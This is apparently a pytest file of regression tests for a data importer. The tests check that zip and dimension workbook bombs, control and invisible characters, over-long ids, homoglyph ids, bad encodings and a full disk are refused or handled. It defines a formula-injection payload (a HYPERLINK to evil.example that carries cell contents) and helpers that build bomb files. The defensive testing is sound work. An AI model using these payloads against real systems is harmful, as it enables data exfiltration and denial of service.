"""Issue 14, "Bad input that costs the server": each test is one case of the attack sweep that broke.

Workbook bombs (a declared dimension, a huge cell address, a zip bomb), a million-row workbook, control
characters and over-long ids, undecodable CSVs, formula ids in the Excel scoresheet, a full disk during an
import, and look-alike ids.
"""

from __future__ import annotations

import datetime as dt
import io
import re
import resource
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from rrrs_core import scoresheet_xlsx as sx
from rrrs_core.errors import Problem, ValidationError
from rrrs_core.importing import import_path, xlsx_limits
from tests.tables import read_ok, write_folder, write_xlsx

ROOT = Path(__file__).resolve().parents[2]


def refused(con: duckdb.DuckDBPyConnection, path: Path) -> list[Problem]:
    with pytest.raises(ValidationError) as info:
        import_path(con, path)
    return info.value.problems


def with_dimension(src: Path, dest: Path, ref: str, extra_cell: str | None = None, last_row: bool = False) -> Path:
    """Copy a workbook, declaring `ref` as every sheet's dimension (and optionally adding one far cell to the
    header row, or an empty cell at the bottom-right corner of `ref`, as the attack's file had)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename.startswith("xl/worksheets/sheet"):
                text = re.sub(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{ref}"/>', data.decode())
                assert f'<dimension ref="{ref}"/>' in text
                if extra_cell:  # appended to the header row
                    text = text.replace("</row>", f'<c r="{extra_cell}" t="inlineStr"><is><t>x</t></is></c></row>', 1)
                if last_row:
                    corner = ref.split(":")[1]
                    text = text.replace("</sheetData>", f'<row r="{corner.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}">'
                                        f'<c r="{corner}"/></row></sheetData>')
                data = text.encode()
            zout.writestr(info, data)
    return dest


def run_limited(code: str, seconds: int = 60, memory_mb: int = 1500) -> subprocess.CompletedProcess:
    """Run `code` in a child Python with an address-space limit, so a reader that allocates what the file
    claims fails there (MemoryError) instead of taking the test machine down."""
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory_mb << 20, memory_mb << 20))

    return subprocess.run([sys.executable, "-c", textwrap.dedent(code)], cwd=ROOT, capture_output=True, text=True,
                          timeout=seconds, preexec_fn=limit)


# --- a 2.4 KB .xlsx declaring A1:XFD1048576 ---------------------------------------------------------------


def test_declared_dimension_bomb_is_read_as_the_cells_that_exist(tmp_path):
    """The tables workbook declares A1:XFD1048576 on every sheet and has an empty cell there: the import
    reads only the cells that exist (it imports) instead of a million rows padded to 16 384 columns ("Unable
    to allocate 128 GiB"; run in a child limited to 1.5 GB)."""
    book = with_dimension(write_xlsx(tmp_path / "ok.xlsx", read_ok()), tmp_path / "bomb.xlsx", "A1:XFD1048576",
                          last_row=True)
    assert book.stat().st_size < 10_000
    proc = run_limited(f"""
        import time
        from rrrs_core import store
        from rrrs_core.importing import import_path
        con = store.connect({str(tmp_path / 'db.duckdb')!r})
        start = time.perf_counter()
        print(import_path(con, {str(book)!r}).summary())
        print('seconds', round(time.perf_counter() - start, 1))
        """)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "4 new codings" in proc.stdout
    assert float(proc.stdout.split("seconds")[1]) < 20


def test_far_cell_in_tables_workbook_is_refused_by_name(con, tmp_path):
    """A cell at XFD1 widens the header to 16 384 columns: refused, naming file and sheet."""
    book = with_dimension(write_xlsx(tmp_path / "ok.xlsx", read_ok()), tmp_path / "wide.xlsx", "A1:XFD6",
                          extra_cell="XFD1")
    problems = refused(con, book)
    wide = [p for p in problems if "columns, more than the" in p.message]
    assert wide and wide[0].file.startswith("wide.xlsx [") and wide[0].row == 1


def test_rows_are_capped_with_use_csv_message(con, tmp_path, monkeypatch):
    """A sheet longer than MAX_ROWS is refused early with "use CSV", naming file and sheet (the cap is
    lowered here so the test stays fast; the streaming reader stops at the first row past it)."""
    monkeypatch.setattr(xlsx_limits, "MAX_ROWS", 10)
    frames = read_ok()
    frames["ratings"] = pd.concat([frames["ratings"]] * 3, ignore_index=True)  # 39 rows
    problems = refused(con, write_xlsx(tmp_path / "long.xlsx", frames))
    hit = [p for p in problems if "CSV" in p.message]
    assert [p.file for p in hit] == ["long.xlsx [ratings]"]
    assert "more than 10 rows" in hit[0].message


def test_zip_bomb_is_refused_before_it_is_opened(con, tmp_path):
    """A sheet that inflates 1000:1 is refused from the zip's directory, never decompressed."""
    src = write_xlsx(tmp_path / "ok.xlsx", read_ok())
    bomb = tmp_path / "zipbomb.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            zout.writestr(info, zin.read(info.filename))
        zout.writestr("xl/padding.xml", b" " * (300 << 20))
    assert bomb.stat().st_size < 2 << 20
    problems = refused(con, bomb)
    assert problems[0].file == "zipbomb.xlsx" and "unzips to" in problems[0].message


def test_scoresheet_with_far_cell_is_refused_quickly(con):
    """An Excel scoresheet with one cell at XFD1048576: refused by name before the reader walks a million
    rows (before the fix: a million label lookups and 16 384 column reads)."""
    wb = load_workbook(io.BytesIO(sx.template(dyad_id="D1", therapist_id="T1", session_number=1, coder_id="C1")))
    wb["Scoresheet"]["XFD1048576"] = "x"
    buf = io.BytesIO()
    wb.save(buf)
    start = time.perf_counter()
    with pytest.raises(ValidationError) as info:
        sx.import_scoresheets(con, [("far.xlsx", buf.getvalue())])
    assert time.perf_counter() - start < 10
    (p,) = info.value.problems
    assert p.file == "far.xlsx [Scoresheet]" and "XFD1048576" in p.message


# --- a 32 MB xlsx of 1M real rows: streamed, and capped -------------------------------------------------


def test_workbook_over_the_row_cap_is_refused_with_use_csv(tmp_path):
    """A workbook one row past the cap is refused with "use CSV", naming the sheet, before its rows are parsed
    (its row elements are counted in the raw XML); before the fix every row was listed into a DataFrame
    (1M rows: 210 s, 1.7 GB). The cap is lowered to 20 000 rows in the child to keep the test short; the
    memory bound is loose because the machine is shared (measured figures: see xlsx_limits)."""
    cap = 20_000
    path = tmp_path / "big.xlsx"
    wb = Workbook(write_only=True)
    for name, frame in read_ok().items():
        ws = wb.create_sheet(name)
        ws.append(list(frame.columns))
        rows = frame.values.tolist()
        for row in rows if name != "ratings" else rows * (cap // len(rows) + 1):
            ws.append(row)
    wb.save(path)
    proc = run_limited(f"""
        import resource
        from rrrs_core import store
        from rrrs_core.errors import ValidationError
        from rrrs_core.importing import import_path, xlsx_limits
        xlsx_limits.MAX_ROWS = {cap}
        con = store.connect({str(tmp_path / 'db.duckdb')!r})
        try:
            import_path(con, {str(path)!r})
        except ValidationError as exc:
            print([str(p) for p in exc.problems])
        print('rss', resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024)
        """, seconds=240)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert "upload the three CSV files" in proc.stdout and "big.xlsx [ratings]" in proc.stdout
    assert "more than 20,000 rows" in proc.stdout
    assert int(proc.stdout.split("rss")[1]) < 1000


# --- formula ids in the Excel scoresheet ----------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def test_formula_ids_are_written_as_text_in_the_scoresheet(con):
    """Every header value and note that starts with '=' is stored as a string cell: the filled scoresheet
    has no formula cells at all, and the ids read back exactly."""
    from rrrs_core import coding_edit as ce

    draft = ce.CodingDraft(EVIL, 1, EVIL, EVIL, dt.date(2026, 1, 5), 5, 10, EVIL, EVIL,
                           segment_notes={s: EVIL for s in range(1, 11)})
    wb = load_workbook(io.BytesIO(sx.template(draft=draft)))
    formulas = [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    ws = wb["Scoresheet"]
    assert sum(c.value == EVIL for row in ws.iter_rows() for c in row) == 15


def test_stored_formula_ids_download_as_text(con, tmp_path):
    """The attack as it ran: ids imported from a CSV (they are short, visible text, so the import takes
    them), then the stored coding downloaded as a filled scoresheet: no formula cell, the ids as text."""
    frames = read_ok()
    for frame in frames.values():
        frame.replace({"dyad_id": {"D1": EVIL}, "coder_id": {"C1": EVIL}}, inplace=True)
    frames["sessions"].replace({"therapist_id": {"T1": EVIL}, "patient_id": {"P-ALPHA": EVIL},
                                "treatment": {"CBT": EVIL}}, inplace=True)
    import_path(con, write_folder(tmp_path / "in", frames))
    wb = load_workbook(io.BytesIO(sx.filled(con, EVIL, 1, EVIL)))
    assert [c.coordinate for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
    assert sum(c.value == EVIL for row in wb["Scoresheet"].iter_rows() for c in row) == 5


# --- control characters and over-long ids ---------------------------------------------------------------


def with_value(tmp_path: Path, table: str, row: int, column: str, value: str) -> Path:
    """The good fixture folder with one cell replaced (`row` counts data rows from 0); written in binary so
    a NUL byte reaches the file as it is."""
    frames = read_ok()
    frames[table].loc[row, column] = value
    folder = write_folder(tmp_path / "in")
    (folder / f"{table}.csv").write_bytes(frames[table].to_csv(index=False).encode("utf-8"))
    return folder


ID_CELLS = [("sessions", c) for c in ("dyad_id", "therapist_id", "coder_id", "supervisor_id", "patient_id",
                                      "treatment")] + [("marks", "dyad_id"), ("marks", "coder_id"),
                                                       ("marks", "code"), ("ratings", "coder_id"),
                                                       ("ratings", "item")]


@pytest.mark.parametrize(("table", "column"), ID_CELLS)
@pytest.mark.parametrize("bad", ["\x00", "\x1b", "\u202e", "\u200b"])
def test_control_characters_in_ids_are_refused(con, tmp_path, table, column, bad):
    """`D\\x001` used to be stored (and shown as "D1"): every id column refuses control and invisible
    characters, naming file, row, column and the value escaped."""
    original = read_ok()[table].loc[0, column]
    value = original[:1] + bad + original[1:]
    problems = refused(con, with_value(tmp_path, table, 0, column, value))
    escaped = original[:1] + (f"\\x{ord(bad):02x}" if ord(bad) < 0x100 else f"\\u{ord(bad):04x}") + original[1:]
    hits = [p for p in problems if p.file == f"{table}.csv" and p.row == 2 and p.column == column
            and "control or invisible character" in p.message]
    assert hits, "\n".join(map(str, problems))
    assert hits[0].value == escaped
    assert con.execute("SELECT count(*) FROM dyad").fetchall() == [(0,)]


@pytest.mark.parametrize(("bad", "escaped"), [
    ("\u00ad", "\\xad"), ("\u2028", "\\u2028"), ("\U000e0041", "\\U000e0041"), ("\ufe0f", "\\ufe0f"),
    ("\u034f", "\\u034f"), ("\u180e", "\\u180e")])
def test_every_invisible_character_is_refused_in_ids(con, tmp_path, bad, escaped):
    """The sweep after the fix stored soft hyphens, line separators, tag characters, variation selectors, the
    combining grapheme joiner and the Mongolian vowel separator in a dyad id ("D\u00ad1" shows as "D1"):
    every format, separator, private-use and default-ignorable character is refused, not a hand-made list."""
    problems = refused(con, with_value(tmp_path, "sessions", 0, "dyad_id", "D" + bad + "1"))
    hits = [p for p in problems if p.column == "dyad_id" and "control or invisible character" in p.message]
    assert hits and hits[0].value == "D" + escaped + "1", "\n".join(map(str, problems))
    assert con.execute("SELECT count(*) FROM dyad").fetchall() == [(0,)]


def test_accented_and_other_scripts_ids_still_import(con, tmp_path):
    import_path(con, with_value(tmp_path, "sessions", 0, "patient_id", "José-Ωμέγα-Тест"))
    assert con.execute("SELECT patient_id FROM dyad WHERE patient_id LIKE 'Jos%'").fetchall() == [("José-Ωμέγα-Тест",)]


@pytest.mark.parametrize("column", ["dyad_id", "therapist_id", "coder_id", "supervisor_id", "patient_id",
                                    "treatment"])
def test_overlong_ids_are_refused_and_not_echoed_whole(con, tmp_path, column):
    """A 1 MB dyad id made the Caseload page 86 MB: ids are capped at 64 characters, and the problem report
    shows the first 80 characters and the length, not the megabyte."""
    value = "D" * (1 << 20)
    problems = refused(con, with_value(tmp_path, "sessions", 0, column, value))
    hit = next(p for p in problems if p.column == column and p.row == 2 and "longer than 64" in p.message)
    assert len(hit.value) < 120 and "1,048,576 characters" in hit.value
    assert all(len(str(p)) < 2000 for p in problems)


def test_ids_of_64_characters_still_import(con, tmp_path):
    import_path(con, with_value(tmp_path, "sessions", 0, "patient_id", "P" * 64))
    assert con.execute("SELECT max(length(patient_id)) FROM dyad").fetchall() == [(64,)]


# --- homoglyph ids --------------------------------------------------------------------------------------


def test_cyrillic_lookalike_of_a_stored_id_is_warned(con, tmp_path):
    """Cyrillic "Т1" beside the stored Latin "T1": the import warns (row, column, value) naming the twin."""
    import_path(con, write_folder(tmp_path / "first"))
    frames = read_ok()
    frames["sessions"]["therapist_id"] = frames["sessions"]["therapist_id"].str.replace("T1", "\u04221")
    frames["sessions"]["dyad_id"] = frames["sessions"]["dyad_id"].str.replace("D1", "DX1")
    for t in ("marks", "ratings"):
        frames[t]["dyad_id"] = frames[t]["dyad_id"].str.replace("D1", "DX1")
    report = import_path(con, write_folder(tmp_path / "second", frames))
    hits = [p for p in report.warnings if p.column == "therapist_id" and p.value == "\u04221"]
    assert hits and "looks like the id T1" in hits[0].message and hits[0].row == 2


def test_mixed_script_id_is_warned(con, tmp_path):
    report = import_path(con, with_value(tmp_path, "sessions", 0, "patient_id", "P-\u0410LPHA"))  # Cyrillic А
    hits = [p for p in report.warnings if p.column == "patient_id" and p.row == 2]
    assert hits and ("mixes alphabets" in hits[0].message or "looks like" in hits[0].message)


# --- encodings --------------------------------------------------------------------------------------------


def test_latin1_file_names_the_line_and_the_fix(con, tmp_path):
    """DuckDB's "not utf-8 encoded" line used to be dropped, leaving "CSV Error on Line: N" (and a wrong N)."""
    frames = read_ok()
    frames["sessions"].loc[1, "treatment"] = "Thérapie"
    folder = write_folder(tmp_path / "in")
    (folder / "sessions.csv").write_bytes(frames["sessions"].to_csv(index=False).encode("latin-1"))
    problems = refused(con, folder)
    (p,) = [p for p in problems if p.file == "sessions.csv"]
    assert p.row == 3 and "line 3 is not valid UTF-8" in p.message and "CSV UTF-8" in p.message
    assert "Latin-1" in p.message


@pytest.mark.parametrize("table", ["sessions", "ratings"])
def test_utf16_with_byte_order_mark_is_accepted(con, tmp_path, table):
    """What Excel's "Unicode Text" writes (UTF-16 LE with BOM, tab-delimited) imports as UTF-8 would."""
    frames = read_ok()
    frames["sessions"].loc[:, "treatment"] = "Thérapie"
    folder = write_folder(tmp_path / "in")
    (folder / f"{table}.csv").write_bytes(frames[table].to_csv(index=False, sep="\t").encode("utf-16"))
    if table != "sessions":
        (folder / "sessions.csv").write_bytes(frames["sessions"].to_csv(index=False).encode("utf-8"))
    report = import_path(con, folder)
    assert report.counts.codings_new == 4
    assert con.execute("SELECT DISTINCT treatment FROM dyad").fetchall() == [("Thérapie",)]


@pytest.mark.parametrize(("codec", "fragment"), [("utf-16-be", "UTF-16 big-endian"),
                                                 ("utf-16-le", "UTF-16 without a byte-order mark")])
def test_other_utf16_files_are_refused_by_name(con, tmp_path, codec, fragment):
    folder = write_folder(tmp_path / "in")
    text = read_ok()["marks"].to_csv(index=False)
    bom = b"\xfe\xff" if codec == "utf-16-be" else b""
    (folder / "marks.csv").write_bytes(bom + text.encode(codec))
    problems = refused(con, folder)
    (p,) = [p for p in problems if p.file == "marks.csv"]
    assert fragment in p.message and "CSV UTF-8" in p.message


# --- disk full during an import ---------------------------------------------------------------------------

# What DuckDB 1.5.5 raised when this import ran on a 3 MB tmpfs (checked by hand; mounting one needs root).
WAL_FULL = 'TransactionContext Error: Failed to commit: Could not write file "{db}.wal": No space left on device'


@pytest.fixture
def full_disk(monkeypatch, tmp_path):
    """The import's write step fails as DuckDB does when the write-ahead log cannot grow."""
    from rrrs_core.importing import load

    def write(*_args, **_kwargs):
        raise duckdb.TransactionException(WAL_FULL.format(db=tmp_path / "full.duckdb"))

    monkeypatch.setattr(load, "write", write)
    return tmp_path


def test_disk_full_is_a_message_and_changes_nothing(con, full_disk):
    from rrrs_core.importing.diskfull import DiskFullError

    with pytest.raises(DiskFullError) as info:
        import_path(con, write_folder(full_disk / "in"))
    assert str(info.value).startswith(f"The disk holding {full_disk} is full: nothing was imported from in")
    assert con.execute("SELECT count(*) FROM coding").fetchall() == [(0,)]


def test_disk_full_in_the_cli_prints_no_traceback(full_disk, capsys):
    from rrrs_core import cli

    code = cli.main(["import", str(write_folder(full_disk / "in")), "--db", str(full_disk / "db.duckdb")])
    err = capsys.readouterr().err
    assert code == 1 and err.startswith("rrrs: The disk holding") and "Traceback" not in err


def test_disk_full_on_the_data_page_says_so(monkeypatch, full_disk):
    from tests.apptest import open_page
    from tests.test_page_data import uploads

    monkeypatch.setenv("RRRS_FORCE_DEMO", "1")
    at = open_page(monkeypatch, full_disk / "page.duckdb", "data")
    at.get("file_uploader")[0].set_value(uploads()).run()
    at.button[1].click().run()
    assert not at.exception
    assert [e.value for e in at.error if "The disk holding" in e.value and "nothing was imported" in e.value]
    assert not [e.value for e in at.error if "Something went wrong" in e.value]


def test_scoresheet_editor_new_id_inputs_are_capped(monkeypatch, clinic_db):
    """The scoresheet editor's new-id inputs take at most 64 characters (a URL carrying a longer id is cut),
    as the importer's rules do (which also check what the editor saves)."""
    from tests.test_page_scoresheet import open_sheet

    monkeypatch.setenv("RRRS_FORCE_DEMO", "1")  # demo mode proper creates no dyads by hand (test_scope_scoresheet)
    at = open_sheet(monkeypatch, clinic_db, dyad="D" * 100, session="1", coder="C" * 100)
    inputs = {t.key: t for t in at.text_input}
    for key in ("sc_pick_new_dyad", "sc_pick_patient", "sc_pick_treatment"):
        assert inputs[key].proto.max_chars == 64, key
    assert len(inputs["sc_pick_new_dyad"].value) == 64


@pytest.mark.parametrize(("args", "fragment"), [
    (["x" * 300 + "@example.org"], "longer than 254"),
    (["carol@example.org", "--coder", "C" * 65], "longer than 64"),
    (["carol@example.org", "--name", "N" * 129], "longer than 128"),
    (["car\x00ol@example.org"], "control or invisible"),
])
def test_users_add_caps_and_refuses_control_characters(tmp_path, capsys, args, fragment):
    """`rrrs users add` stored whatever it was given; now the same caps as the importer's ids."""
    from rrrs_core import cli

    with pytest.raises(SystemExit) as info:
        cli.main(["users", "add", *args, "--role", "coder", "--db", str(tmp_path / "u.duckdb")])
    assert info.value.code == 2 and fragment in capsys.readouterr().err


def test_scoresheet_ids_and_notes_are_capped(con):
    """The scoresheet import runs the importer's id rules (a 1 MB dyad id is refused at its cell) and caps
    segment notes at 2000 characters."""
    from rrrs_core import coding_edit as ce

    draft = ce.CodingDraft("D" * 100_000, 1, "C1", "T1", dt.date(2026, 1, 5), 5, 10,
                           segment_notes={2: "n" * 3000})
    with pytest.raises(ValidationError) as info:
        sx.import_scoresheets(con, [("long.xlsx", sx.template(draft=draft))])
    problems = info.value.problems
    assert any("2000 characters" in p.message and p.file == "long.xlsx [Scoresheet]" for p in problems)
    assert all(len(p.value or "") < 120 for p in problems)
    draft = ce.CodingDraft("D" * 100, 1, "C1", "T1", dt.date(2026, 1, 5), 5, 10)
    with pytest.raises(ValidationError) as info:
        sx.import_scoresheets(con, [("long.xlsx", sx.template(draft=draft))])
    assert any("longer than 64" in p.message and p.column == "B3" for p in info.value.problems)
    assert con.execute("SELECT count(*) FROM dyad").fetchall() == [(0,)]
